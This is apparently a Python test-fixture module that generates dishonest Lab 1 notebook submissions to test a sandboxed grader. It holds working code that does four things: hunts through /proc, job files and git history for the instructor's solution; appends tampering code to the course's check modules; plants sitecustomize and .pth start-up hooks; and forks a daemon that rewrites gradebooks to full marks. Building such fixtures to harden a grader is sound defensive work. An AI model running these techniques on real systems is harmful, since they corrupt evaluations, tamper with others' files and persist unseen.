"""Dishonest and hostile Lab 1 submissions, written the way a clever student would: fixtures for the grading tests.

Each attack of ``ATTACKS`` is a student notebook for Lab 1 (``01_backprop_by_hand``) whose answer cells hold real
code. The tricks come from the grading issue, each strengthened against a grader that hides the solution and its
own files, leaves only a scratch folder writable, has no network and judges the checks in another process on fresh
random inputs: the code also searches the whole file system, the grader's job files and other processes.

For every attack:

* ``attack_answers(name, lab, answers, student)`` gives its answer cells ({grade_id: source});
* ``fallback_answers(name, lab, answers)`` gives the answers it is left with when the trick does not work
  (``FALLBACK[name]`` says which: the lab's ``"stubs"``, wrong ``"zeros"`` of the right shapes, or the solution's
  Part A with the rest left as stubs, ``"part_a"``); an honest grader gives the attack exactly what its fallback
  gets;
* ``FAKED[name]`` names the graded cells whose points the trick tries to obtain dishonestly;
* ``LATER_STUDENTS`` names the attacks that act on students graded after the attacker (or on the run's output
  after it ended): grade them in a class with honest submissions whose names sort after the attacker's.

``write_attack(name, path, lab, answers)`` writes the notebook; the student id is the file's stem (the attacker
knows its own name). ``lab`` is the student lab (an nbformat notebook) and ``answers`` the solution's answer cells
by grade_id, so this module depends on nothing of the tests but these two. It imports only nbformat and the
standard library.

Some attacks are destructive when they work: ``checks_transformer`` and ``sitecustomize`` write into the project
checkout and site-packages, ``setsid_rewrite`` leaves a daemon (it stops itself within 20 minutes), and the bombs
take the machine's memory and process table. Run them only against a grader that contains them, or restore
afterwards.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path
from typing import Callable, Mapping

import nbformat

# ---------------------------------------------------------------------------
# Lab 1: its answer cells and graded cells
# ---------------------------------------------------------------------------

ANSWER_IDS = ("a1_forward", "a2_dE_dw5", "a3_gradients", "a4_sgd_step", "b1_affine", "b2_activations",
              "b3_softmax", "b4_mlp", "b5_sgd", "c1_keras_mlp")
GRADED_IDS = ("a1_forward_check", "a2_dE_dw5_check", "a3_gradients_check", "a3_gradient_tape", "a4_sgd_step_check",
              "a_training_check", "b1_affine_check", "b2_activations_check", "b3_softmax_check", "b4_mlp_check",
              "b5_sgd_check", "b_accuracy_check", "c1_keras_mlp_check", "c_accuracy_check")
PART_A_IDS = tuple(g for g in GRADED_IDS if g.startswith("a"))

# Wrong answers of the right shapes that run cheaply, so that every given cell of the lab (the training loops, the
# Keras fit) still runs and every check fails on the values alone: only a fooled check can pass them.
ZERO_ANSWERS: dict[str, str] = {
    "a1_forward": (
        "def forward(x, params):\n"
        "    return dict(net_h1=0.0, h1=0.0, net_h2=0.0, h2=0.0, net_o1=0.0, o1=0.0, net_o2=0.0, o2=0.0)\n\n\n"
        "def total_error(outputs, t):\n"
        "    return 0.0\n"
    ),
    "a2_dE_dw5": "def dE_dw5(x, t, params):\n    return 0.0\n",
    "a3_gradients": "def gradients(x, t, params):\n    return {k: 0.0 for k in params}\n",
    "a4_sgd_step": "def sgd_step(params, grads, lr):\n    return dict(params)\n",
    "b1_affine": (
        "def affine_forward(x, w, b):\n"
        "    return np.zeros((x.shape[0], w.shape[1])), (x, w)\n\n\n"
        "def affine_backward(dout, cache):\n"
        "    x, w = cache\n"
        "    return np.zeros_like(x), np.zeros_like(w), np.zeros(w.shape[1])\n"
    ),
    "b2_activations": (
        "def relu_forward(x):\n    return np.zeros_like(x), x\n\n\n"
        "def relu_backward(dout, cache):\n    return np.zeros_like(dout)\n\n\n"
        "def sigmoid_forward(x):\n    return np.zeros_like(x), x\n\n\n"
        "def sigmoid_backward(dout, cache):\n    return np.zeros_like(dout)\n"
    ),
    "b3_softmax": "def softmax_cross_entropy(scores, y):\n    return 0.0, np.zeros_like(scores)\n",
    "b4_mlp": (
        "def mlp_loss(params, X, y=None):\n"
        "    scores = np.zeros((X.shape[0], params['W2'].shape[1]))\n"
        "    if y is None:\n"
        "        return scores\n"
        "    return 0.0, {k: np.zeros_like(v) for k, v in params.items()}\n"
    ),
    "b5_sgd": (
        "def sgd_train(params, X, y, X_val, y_val, epochs, batch_size, learning_rate, lr_decay=1.0, seed=0,\n"
        "              verbose=True):\n"
        "    params = {name: value.copy() for name, value in params.items()}\n"
        "    return params, {'loss': [0.0] * epochs, 'val_loss': [0.0] * epochs, 'val_accuracy': [0.0] * epochs}\n"
    ),
    # Zero weights: the hidden layer outputs 0, so only the output bias learns (about 11 % accuracy).
    "c1_keras_mlp": (
        "def build_keras_mlp(input_dim, hidden_dim, num_classes):\n"
        "    return keras.Sequential([keras.Input(shape=(input_dim,)),\n"
        "                             keras.layers.Dense(hidden_dim, activation='relu', kernel_initializer='zeros'),\n"
        "                             keras.layers.Dense(num_classes, kernel_initializer='zeros')])\n"
    ),
}


def _gid(cell: Mapping) -> str:
    """Return a cell's nbgrader grade_id, or ''."""
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")


def stub_answers(lab: nbformat.NotebookNode) -> dict[str, str]:
    """Return the lab's answer stubs by grade_id (what an unanswered notebook holds)."""
    return {_gid(c): c.source for c in lab.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")}


def lab_points(lab: nbformat.NotebookNode) -> dict[str, float]:
    """Return each graded cell's points, read from the lab's own metadata (a student sees them too)."""
    return {_gid(c): float(c.metadata.nbgrader["points"]) for c in lab.cells
            if c.get("metadata", {}).get("nbgrader", {}).get("grade")}


def check_lines(lab: nbformat.NotebookNode) -> list[str]:
    """Return the visible lines of the lab's graded cells: how a student's code recognises a check cell."""
    lines = []
    for cell in lab.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            lines += [line.strip() for line in cell.source.splitlines() if line.strip() and not line.startswith("#")]
    return lines


def _code(source: str, **values: object) -> str:
    """Dedent a code template and fill its ``__NAME__`` placeholders with Python literals."""
    text = textwrap.dedent(source).strip("\n") + "\n"
    for key, value in values.items():
        text = text.replace(f"__{key}__", repr(value))
    return text


def _with_stub(stub: str, code: str) -> str:
    """An answer cell: the lab's stub (what is left if the trick fails), then the trick."""
    return stub.rstrip("\n") + "\n\n\n" + code


def _zeros_then(grade_id: str, code: str) -> str:
    """An answer cell: the wrong zeros first (they stay defined if the trick raises), then the trick."""
    return ZERO_ANSWERS[grade_id].rstrip("\n") + "\n\n\n" + code


# ---------------------------------------------------------------------------
# Code shared by several attacks (pasted into the answer cells, as a student would)
# ---------------------------------------------------------------------------

# Where the course, the grader and its files may be: the code's own paths, environment variables, the grader's job
# files, other processes' working folders, command lines and environments, editable installs; then a time-boxed
# walk of the whole file system.
_RECON = r'''
import collections, glob, json, os, subprocess, sys, time


def _proc_pids():
    """The ids of every process this kernel can see."""
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []


def _course_jobs():
    """The grader's job files: ../job.json next to the kernel's folder, and any .json on a process's command line."""
    paths = [os.path.join(os.getcwd(), *[".."] * up, "job.json") for up in range(4)]
    for pid in _proc_pids():
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        paths += [os.path.join(cwd, a.decode(errors="ignore")) for a in args if a.endswith(b".json")]
    jobs = []
    for path in dict.fromkeys(paths):
        try:
            with open(path, encoding="utf-8") as handle:
                job = json.load(handle)
        except (OSError, ValueError, UnicodeDecodeError):
            continue
        if isinstance(job, dict):
            job["__path__"] = os.path.realpath(path)
            jobs.append(job)
    return jobs


def _course_roots():
    """Folders that may hold the course or the grader's files, the most specific first."""
    found = []

    def add(path, parents=3):
        try:
            path = os.path.realpath(str(path))
        except (OSError, ValueError):
            return
        for _ in range(parents + 1):  # the folder and a few parents: the project root is rarely the first hit
            if path not in found and os.path.isdir(path):
                found.append(path)
            if os.path.dirname(path) == path:
                break
            path = os.path.dirname(path)

    for name in ("utils", "utils.checks", "utils.grading", "utils.exercises"):
        if getattr(sys.modules.get(name), "__file__", None):
            add(os.path.dirname(sys.modules[name].__file__))
    for entry in sys.path + os.environ.get("PYTHONPATH", "").split(os.pathsep):
        if entry:
            add(entry)
    add(os.getcwd())
    add(sys.prefix)
    add(os.path.dirname(os.path.realpath(sys.executable)))
    for key in ("HOME", "PWD", "OLDPWD", "VIRTUAL_ENV", "COURSE_DATA_DIR", "COURSE_TFDS_DIR", "TMPDIR", "JUPYTER_RUNTIME_DIR"):
        if os.environ.get(key):
            add(os.environ[key])
    for job in _course_jobs():
        add(os.path.dirname(job["__path__"]))
        for value in job.values():
            if isinstance(value, str) and value.startswith(os.sep):
                add(value)
    for pid in _proc_pids():  # the grader's and the instructor's processes: folders, arguments, environments
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            add(cwd)
            for arg in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0"):
                arg = arg.decode(errors="ignore")
                if os.sep in arg and not arg.startswith("-"):
                    add(os.path.join(cwd, arg))
        except OSError:
            pass
        try:
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                key, _, value = item.decode(errors="ignore").partition("=")
                if key in ("PWD", "OLDPWD", "HOME", "PYTHONPATH", "VIRTUAL_ENV", "COURSE_DATA_DIR", "COURSE_TFDS_DIR"):
                    for part in value.split(os.pathsep):
                        if part:
                            add(part)
        except OSError:
            pass
    for site_dir in [p for p in sys.path if p.endswith("-packages")]:  # editable installs point at the project
        for pth in glob.glob(os.path.join(site_dir, "*.pth")) + glob.glob(os.path.join(site_dir, "*", "direct_url*")):
            try:
                text = open(pth, encoding="utf-8").read()
            except (OSError, UnicodeDecodeError):
                continue
            for line in text.replace('"', "\n").splitlines():
                line = line.strip().replace("file://", "")
                if line.startswith(os.sep):
                    add(line)
    found.sort(key=lambda p: (p == os.sep, -p.count(os.sep)))
    return found


_SKIP_DIRS = {"proc", "sys", "dev", "run", ".git", "__pycache__", "node_modules", "site-packages", "dist-packages",
              ".cache", ".npm", ".cargo", ".rustup"}


def _course_walk(accept, budget_s, roots=None):
    """Yield files that `accept` the DirEntry, under the roots first and then the whole file system, until the
    time budget runs out."""
    deadline = time.monotonic() + budget_s
    queue, seen = collections.deque((roots if roots is not None else _course_roots()) + [os.sep]), set()
    while queue and time.monotonic() < deadline:
        top = queue.popleft()
        if top in seen:
            continue
        seen.add(top)
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    if entry.name not in _SKIP_DIRS:
                        queue.append(entry.path)
                elif entry.is_file(follow_symlinks=False) and accept(entry):
                    yield entry.path
            except OSError:
                pass
            if time.monotonic() > deadline:
                return
'''

# Full marks with no reasons in a grades folder: the gradebook's own row (the attacker's) or, for a worker's
# result file, every graded cell. Maxima come from the lab's metadata, which every student has.
_REWRITE = r'''
import csv, io, json, os


def _full_marks(folder, who):
    """Give `who` full marks and no reasons in folder/gradebook.csv and folder/results.json; return True if changed."""
    changed = False
    book = os.path.join(folder, "gradebook.csv")
    try:
        with open(book, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
    except (OSError, UnicodeDecodeError):
        rows = []
    if rows and "total" in rows[0]:
        header = rows[0]
        for row in rows[1:]:
            if len(row) != len(header) or who not in (row[0], row[-1]):
                continue
            wanted = list(row)
            for i, column in enumerate(header):
                if column in _MAXIMA:
                    wanted[i] = format(_MAXIMA[column], "g")
                elif column == "total":
                    wanted[i] = format(sum(_MAXIMA.values()), "g")
                elif column in ("reasons", "review"):
                    wanted[i] = ""
            if wanted != row:
                row[:], changed = wanted, True
        if changed:
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="\n").writerows(rows)
            with open(book + ".tmp", "w", encoding="utf-8") as handle:
                handle.write(buffer.getvalue())
            os.replace(book + ".tmp", book)
    path = os.path.join(folder, "results.json")
    try:
        with open(path, encoding="utf-8") as handle:
            summary = json.load(handle)
    except (OSError, ValueError, UnicodeDecodeError):
        return changed
    edited = False
    for row in summary.get("rows", []) if isinstance(summary, dict) else []:
        if isinstance(row, dict) and who in (row.get("student"), row.get("name")):
            if row.get("points") != _MAXIMA or row.get("reasons") or row.get("review"):
                row.update(points=dict(_MAXIMA), reasons=[], review=[], total=sum(_MAXIMA.values()))
                edited = True
    if edited:
        with open(path + ".tmp", "w", encoding="utf-8") as handle:
            json.dump(summary, handle, indent=1, sort_keys=True)
        os.replace(path + ".tmp", path)
    return changed or edited


def _full_result(path):
    """Give every graded cell of a worker's result file full points and no reasons."""
    try:
        with open(path, encoding="utf-8") as handle:
            result = json.load(handle)
        result["cells"] = {gid: [points, ""] for gid, points in _MAXIMA.items()}
        result["notes"], result["review"] = [], []
        with open(path + ".tmp", "w", encoding="utf-8") as handle:
            json.dump(result, handle)
        os.replace(path + ".tmp", path)
    except Exception:
        pass
'''

# An IPython input transformer that turns every check cell of the lab into a passing tick. The check cells are
# recognised by their visible lines (the student has the lab) or by calling a check; the grader's own cells and
# everything else pass through unchanged.
_TRANSFORMER = r'''
def _tick_checks(lines):
    """Replace a check cell of the lab by a tick; leave every other cell alone."""
    text = "".join(lines)
    stripped = {line.strip() for line in text.splitlines()}
    calls_check = "check_" in text and ("exercises." in text or "checks." in text)
    if "_course_grader" in text or not (stripped & _CHECK_LINES or calls_check) or "def " in text:
        return lines
    return ["print('\\u2713 passed')\n"]


def _install_transformer(shell=None):
    """Add the transformer to this kernel's IPython (once)."""
    try:
        if shell is None:
            from IPython import get_ipython
            shell = get_ipython()
        if shell is not None and not any(getattr(f, "__name__", "") == "_tick_checks"
                                         for f in shell.input_transformers_post):
            shell.input_transformers_post.append(_tick_checks)
            return True
    except Exception:
        pass
    return False
'''


def _header(lab: nbformat.NotebookNode, student: str) -> str:
    """Constants a student's code knows: its own name, the lab's points and the lab's check lines."""
    return _code("""
        _ME = __ME__
        _MAXIMA = __MAXIMA__
        _CHECK_LINES = set(__LINES__)
        """, ME=student, MAXIMA=lab_points(lab), LINES=sorted(set(check_lines(lab))))


# ---------------------------------------------------------------------------
# 1. read_solution
# ---------------------------------------------------------------------------

_READ_SOLUTION = r'''
import runpy

_WANTED = __WANTED__


def _answer_cells(text):
    """The answered cells (grade_id -> source) of a notebook's JSON text: a solution's or a classmate's."""
    try:
        nb = json.loads(text)
    except ValueError:
        return {}
    cells = {}
    for cell in nb.get("cells", []) if isinstance(nb, dict) else []:
        meta = ((cell.get("metadata") or {}).get("nbgrader") or {}) if isinstance(cell, dict) else {}
        source = cell.get("source", "") if isinstance(cell, dict) else ""
        source = "".join(source) if isinstance(source, list) else source
        if (meta.get("grade_id") in _WANTED and isinstance(source, str) and "NotImplementedError" not in source
                and "_steal(" not in source):
            cells[meta["grade_id"]] = source
    return cells


def _find_solution(budget_s=20.0):
    """Look for the instructor's solution (or, failing that, a classmate's answered notebook)."""
    best, official = {}, False

    def consider(text):
        nonlocal best, official
        if "a1_forward" not in text:
            return
        cells = _answer_cells(text)
        instructors = "### BEGIN SOLUTION" in text
        if cells and (instructors, len(cells)) > (official, len(best)):
            best, official = cells, instructors

    def done():
        return official and set(best) >= set(_WANTED)

    def read(path):
        try:
            if os.path.getsize(path) < 20_000_000:
                with open(path, encoding="utf-8", errors="ignore") as handle:
                    consider(handle.read())
        except OSError:
            pass

    roots = _course_roots()
    for job in _course_jobs():  # the old grader's job names the solution outright
        for value in job.values():
            if isinstance(value, str) and value.endswith(".ipynb"):
                read(value)
    for root in roots:  # the usual layouts: solutions/, nbgrader's source/ and release/
        for pattern in ("solutions/*.ipynb", "*/solutions/*.ipynb", "source/*/*.ipynb", "*.ipynb"):
            for path in glob.glob(os.path.join(root, pattern)):
                read(path)
        for path in glob.glob(os.path.join(root, "solutions", "*.py")):  # a script version: run it, keep its functions
            try:
                if "def forward(" in open(path, encoding="utf-8").read():
                    namespace = runpy.run_path(path, run_name="__solution__")
                    globals().update({k: v for k, v in namespace.items() if callable(v) and not k.startswith("_")})
            except (Exception, SystemExit):
                pass
        if done():
            return best
    for root in roots:  # a checkout's history keeps the solution even if the file is gone
        if not os.path.exists(os.path.join(root, ".git")):
            continue
        try:
            listing = subprocess.run(["git", "-C", root, "grep", "-l", "BEGIN SOLUTION", "HEAD", "--", "*.ipynb"],
                                     capture_output=True, text=True, timeout=10).stdout.split()
            for name in listing:
                consider(subprocess.run(["git", "-C", root, "show", name], capture_output=True, text=True,
                                        timeout=10).stdout)
        except (OSError, subprocess.SubprocessError):
            pass
        if done():
            return best
    for path in _course_walk(lambda e: e.name.lower().endswith(".ipynb"), budget_s, roots):  # everything else
        read(path)
        if done():
            break
    return best


_STOLEN = _find_solution()


def _steal(grade_id):
    """Run the found answer of one cell in the notebook's namespace (nothing happens if none was found)."""
    if grade_id in _STOLEN:
        exec(compile(_STOLEN[grade_id], f"<{grade_id}>", "exec"), globals())


_steal("a1_forward")
'''


def _read_solution(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """Every answer cell runs the solution's cell that it found on disk; the first cell does the search."""
    stubs = stub_answers(lab)
    cells = {gid: _with_stub(stubs[gid], f"try:\n    _steal({gid!r})\nexcept NameError:\n    pass\n")
             for gid in ANSWER_IDS}
    cells["a1_forward"] = _with_stub(stubs["a1_forward"], _RECON + _code(_READ_SOLUTION, WANTED=list(ANSWER_IDS)))
    return cells


# ---------------------------------------------------------------------------
# 2. checks_transformer
# ---------------------------------------------------------------------------

# Appended to the course's own modules. In a kernel it adds the input transformer; in any other process (a judge
# of the checks) it makes the checks pass. It binds no new module-level name (everything runs in exec's own
# namespace), so a snapshot of the module taken after it ran looks like the module's normal state.
_TAMPER = _TRANSFORMER + r'''
_module = _target


def _passes(*args, **kwargs):
    print("\u2713 passed")


try:
    from IPython import get_ipython
    _shell = get_ipython()
except Exception:
    _shell = None
if _shell is not None and hasattr(_shell, "input_transformers_post"):
    _install_transformer(_shell)
else:
    for _name, _value in list(vars(_module).items()):
        if type(_value).__name__ == "Check":  # a probe/judge pair: the judge always says "passed"
            object.__setattr__(_value, "judge", lambda *a, **k: "passed")
        elif _name.startswith("check_") and callable(_value):
            setattr(_module, _name, _passes)
    _cls = vars(_module).get("Check")
    if isinstance(_cls, type):  # checks created after this (the labs' modules) are born passing
        _init = _cls.__post_init__

        def __post_init__(self, _init=_init):
            _init(self)
            object.__setattr__(self, "judge", lambda *a, **k: "passed")

        _cls.__post_init__ = __post_init__
        _cls.verdict = lambda self, *a, **k: (True, "passed")
'''

_CHECKS_TRANSFORMER = r'''
_TAMPER = __TAMPER__
_LINE = ("\n\n# numerically safer helpers\nexec(compile(" + repr(_TAMPER) + ", '<helpers>', 'exec'), "
         "{'_target': __import__('sys').modules[__name__], '_CHECK_LINES': " + repr(_CHECK_LINES) + "})\n")


def _tamper_files():
    """Append the payload to every copy of the course's check modules this kernel can write."""
    targets = []
    for name in ("utils.checks", "utils.exercises.framework", "utils.exercises.backprop", "utils.exercises", "utils"):
        module = sys.modules.get(name)
        if module is None:
            try:
                module = __import__(name, fromlist=["_"])
            except Exception:
                continue
        if getattr(module, "__file__", None):
            targets.append(module.__file__)
    for root in _course_roots():
        for rel in ("utils/checks.py", "utils/exercises/framework.py", "utils/exercises/backprop.py",
                    "utils/exercises/__init__.py", "utils/__init__.py"):
            targets.append(os.path.join(root, rel))
    written = []
    for path in dict.fromkeys(os.path.realpath(p) for p in targets):
        try:
            with open(path, encoding="utf-8") as handle:
                if "numerically safer helpers" in handle.read():
                    continue
            with open(path, "a", encoding="utf-8") as handle:
                handle.write(_LINE)
            written.append(path)
        except OSError:
            pass
    return written


_tamper_files()
exec(compile(_TAMPER, "<helpers>", "exec"), {"_target": sys.modules.get("utils.checks"), "_CHECK_LINES": _CHECK_LINES})
'''


def _checks_transformer(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """The first answer cell appends an input transformer to the course's check modules on disk."""
    stubs = stub_answers(lab)
    code = _header(lab, student) + _RECON + _code(_CHECKS_TRANSFORMER, TAMPER=_TAMPER)
    return {**stubs, "a1_forward": _with_stub(stubs["a1_forward"], code)}


# ---------------------------------------------------------------------------
# 3. sitecustomize
# ---------------------------------------------------------------------------

# Runs at the start of every later Python process. A kernel gets the check transformer (an IPython startup file
# in its own IPYTHONDIR, and a thread that adds it once IPython is up). Any other process that imports the checks
# (a judge) gets them passing, through an import hook. A grading worker rewrites its result file with full marks
# when it exits; a grade command rewrites its gradebook when it exits.
_BOOT = r'''
import atexit, os, sys, threading, time
''' + _TRANSFORMER + _REWRITE + r'''


class _AfterImport:
    """A finder that lets the course's check modules load as usual, then makes their checks pass."""

    def find_spec(self, name, path=None, target=None):
        if name not in ("utils.checks", "utils.exercises.framework", "utils.exercises.backprop"):
            return None
        for finder in sys.meta_path:
            spec = None if finder is self else getattr(finder, "find_spec", lambda *a: None)(name, path, target)
            if spec is not None and spec.loader is not None and hasattr(spec.loader, "exec_module"):
                load = spec.loader.exec_module

                def exec_module(module, load=load):
                    load(module)
                    exec(compile(_TAMPER_SRC, "<helpers>", "exec"), {"_target": module, "_CHECK_LINES": _CHECK_LINES})

                spec.loader.exec_module = exec_module
                return spec
        return None


def _boot():
    argv = " ".join(getattr(sys, "orig_argv", sys.argv))  # sys.argv lacks "-m module" this early
    if "ipykernel" in argv:
        try:
            folder = os.path.join(os.environ.get("IPYTHONDIR") or os.path.expanduser("~/.ipython"),
                                  "profile_default", "startup")
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "00-speedups.py"), "w", encoding="utf-8") as handle:
                handle.write("import sys\nfor _name in ('sitecustomize', 'usercustomize', '_course_speedups'):\n"
                             "    getattr(sys.modules.get(_name), '_install_transformer', lambda: None)()\n")
        except Exception:
            pass

        def wait_for_ipython():
            for _ in range(1200):
                if _install_transformer():
                    return
                time.sleep(0.1)

        threading.Thread(target=wait_for_ipython, daemon=True).start()
    else:
        sys.meta_path.insert(0, _AfterImport())
    for arg in getattr(sys, "orig_argv", sys.argv)[1:]:  # a grading worker: python -m utils.grading JOB
        if arg.endswith(".json") and os.path.exists(arg):
            try:
                import json
                job = json.load(open(arg, encoding="utf-8"))
                if isinstance(job, dict) and isinstance(job.get("result"), str):
                    atexit.register(_full_result, job["result"])
            except Exception:
                pass
    if " grade " in f" {argv} ":  # the instructor's grade command: fix the gradebook once it is written
        def fix_gradebooks():
            import glob
            for book in glob.glob(os.path.join(os.getcwd(), "build", "grades", "*", "gradebook.csv")) + \
                    [os.path.join(a, "gradebook.csv") for a in sys.argv if os.path.isdir(a)]:
                for who in _STUDENTS:
                    _full_marks(os.path.dirname(book), who)
        atexit.register(fix_gradebooks)


_boot()
'''

_SITECUSTOMIZE = r'''
import site

_BOOT = __BOOT__
_TAMPER = __TAMPER__


def _plant():
    """Write the payload as sitecustomize.py / usercustomize.py and a .pth hook wherever Python looks at start-up."""
    constants = (f"_ME = {_ME!r}\n_MAXIMA = {_MAXIMA!r}\n_CHECK_LINES = {_CHECK_LINES!r}\n"
                 f"_STUDENTS = [{_ME!r}]\n_TAMPER_SRC = {_TAMPER!r}\n")
    payload = constants + _BOOT
    folders = []
    for root in _course_roots():
        if os.path.isdir(os.path.join(root, "utils")):  # the project root: on every worker's and kernel's path
            folders.append(root)
    folders += [p for p in sys.path if p and os.path.isdir(p)]
    try:
        folders += site.getsitepackages() + [site.getusersitepackages()]
    except Exception:
        pass
    planted = []
    for folder in dict.fromkeys(folders):
        for name in ("sitecustomize.py", "usercustomize.py"):
            path = os.path.join(folder, name)
            try:
                if os.path.exists(path) and "_tick_checks" in open(path, encoding="utf-8").read():
                    continue
                with open(path, "a", encoding="utf-8") as handle:  # append: an existing one keeps working
                    handle.write("\n" + payload)
                planted.append(path)
            except OSError:
                pass
        if folder.endswith("-packages"):  # a .pth line starting with "import" runs at every start-up
            try:
                with open(os.path.join(folder, "_course_speedups.py"), "w", encoding="utf-8") as handle:
                    handle.write(payload)
                with open(os.path.join(folder, "zz_course_speedups.pth"), "w", encoding="utf-8") as handle:
                    handle.write("import _course_speedups\n")
                planted.append(folder)
            except OSError:
                pass
    return planted


_plant()
exec(compile(_BOOT.split("def _boot():")[0], "<boot>", "exec"), globals())
_install_transformer()
'''


def _sitecustomize(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """The first answer cell plants sitecustomize.py (and friends) wherever later processes will import it."""
    stubs = stub_answers(lab)
    code = _header(lab, student) + _RECON + _code(_SITECUSTOMIZE, BOOT=_BOOT, TAMPER=_TAMPER)
    return {**stubs, "a1_forward": _with_stub(stubs["a1_forward"], code)}


# ---------------------------------------------------------------------------
# 4. setsid_rewrite
# ---------------------------------------------------------------------------

_SETSID_REWRITE = r'''
def _ancestors():
    """This process's ancestors (pid, start time), nearest first, without init."""
    chain, pid = [], os.getppid()
    while pid > 1:
        try:
            fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        except OSError:
            break
        chain.append((pid, fields[19]))
        pid = int(fields[1])
    return chain


def _alive(pid, started):
    try:
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[19] == started
    except OSError:
        return False


def _grade_folders():
    """Where the gradebook is written: from the job file, the grade command's arguments, or a search."""
    folders = []
    for job in _course_jobs():
        for key in ("feedback", "out", "out_dir"):
            value = job.get(key)
            if isinstance(value, str):
                folders.append(os.path.dirname(os.path.dirname(value)) if key == "feedback" else value)
    for pid in _proc_pids():
        try:
            args = [a.decode(errors="ignore") for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if "grade" in args:
            folders += [os.path.join(cwd, args[i + 1]) for i, a in enumerate(args[:-1]) if a == "--out"]
            folders += glob.glob(os.path.join(cwd, "build", "grades", "*"))
    return folders


def _daemon(who, ancestors, lifetime_s=1200.0):
    """Keep the gradebook's own row at full marks until the grade command has exited, then once more."""
    started = time.monotonic()
    folders, searched = set(_grade_folders()), 0.0
    watched = ancestors[:2]  # the grading worker (the kernel's parent) and the grade command that started it
    while time.monotonic() - started < lifetime_s:
        if time.monotonic() - searched > 120:  # the gradebook may appear later, or elsewhere
            searched = time.monotonic()
            folders |= set(_grade_folders())
            folders |= {os.path.dirname(p) for p in _course_walk(lambda e: e.name == "gradebook.csv", 5.0)}
        for folder in list(folders):
            try:
                _full_marks(folder, who)
            except Exception:
                pass
        if not any(_alive(pid, t) for pid, t in watched):
            time.sleep(2.0)  # the command's last write has landed: fix it for good
            for folder in folders:
                try:
                    _full_marks(folder, who)
                except Exception:
                    pass
            return
        time.sleep(0.3)


def _detach(who):
    """Double fork and setsid: the daemon leaves the kernel's process group and session, and outlives both."""
    ancestors = _ancestors()
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)  # let go of the kernel's sockets and pipes, so nobody waits on them
        _daemon(who, ancestors)
    finally:
        os._exit(0)


try:
    _who = next((j["student"] for j in _course_jobs() if isinstance(j.get("student"), str)), _ME)
except Exception:
    _who = _ME
_detach(_who)
'''


def _setsid_rewrite(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """The first answer cell forks a daemon that rewrites the gradebook after the grade command."""
    stubs = stub_answers(lab)
    code = _header(lab, student) + _RECON + _REWRITE + _code(_SETSID_REWRITE)
    return {**stubs, "a1_forward": _with_stub(stubs["a1_forward"], code)}


# ---------------------------------------------------------------------------
# 5. fake_float
# ---------------------------------------------------------------------------

# Numbers and arrays that read as whatever they are compared with: the comparison's reference is a local of a
# frame up the stack (`expected` in a judge, `maximum`/`minimum` in checks.check_at_most/at_least, the batch's
# labels in `evaluate`). Their own values are the zeros of ZERO_ANSWERS, which is all that is left when the
# comparison happens in another process.
_FAKE_FLOAT = r'''
import itertools, sys

import numpy as np

_made = itertools.count(1)
_REFERENCE_NAMES = ("expected", "want", "reference", "ref", "target", "desired", "truth")


def _reference(shape=None, depth=15):
    """The nearest reference value up the stack: an array of the given shape, or the bound of a target check."""
    frame = sys._getframe(2)
    for _ in range(depth):
        if frame is None:
            return None
        scope = frame.f_locals
        for name in _REFERENCE_NAMES:
            value = scope.get(name)
            if isinstance(value, (int, float, np.ndarray, np.generic)) and not isinstance(value, _Fake):
                value = np.asarray(value)
                if value.dtype.kind in "fiu" and (shape is None or value.shape == shape):
                    return value
        if frame.f_code.co_name.startswith("check_at_most") and isinstance(scope.get("maximum"), (int, float)):
            return np.asarray(scope["maximum"] * 0.5)
        if frame.f_code.co_name.startswith("check_at_least") and isinstance(scope.get("minimum"), (int, float)):
            return np.asarray(min(1.0, scope["minimum"] + 0.05))
        frame = frame.f_back
    return None


class _Fake(np.ndarray):
    """An array (0-d for a number) of zeros that reads as the reference it is compared with."""

    def astype(self, dtype, *args, **kwargs):
        found = _reference(self.shape)
        return found.astype(dtype) if found is not None else np.asarray(self).astype(dtype, *args, **kwargs)

    def numpy(self):
        found = _reference()
        return found if found is not None else np.asarray(self)

    def __float__(self):
        found = _reference()
        return float(found if found is not None else np.asarray(self))

    def item(self, *args):
        found = _reference(self.shape)
        return (found if found is not None else np.asarray(self)).item(*args)

    def tolist(self):
        found = _reference(self.shape)
        return (found if found is not None else np.asarray(self)).tolist()

    def argmax(self, axis=None, out=None, **kwargs):
        # `evaluate` compares scores.argmax(axis=1) with the batch's labels, a local of its frame
        frame = sys._getframe(1)
        for _ in range(4):
            if frame is None:
                break
            for name in ("yb", "y", "labels", "y_true"):
                value = frame.f_locals.get(name)
                if isinstance(value, np.ndarray) and value.dtype.kind in "iu" and value.shape == self.shape[:1]:
                    return value.copy()
            frame = frame.f_back
        return np.asarray(self).argmax(axis=axis, out=out, **kwargs)


def _fake(value):
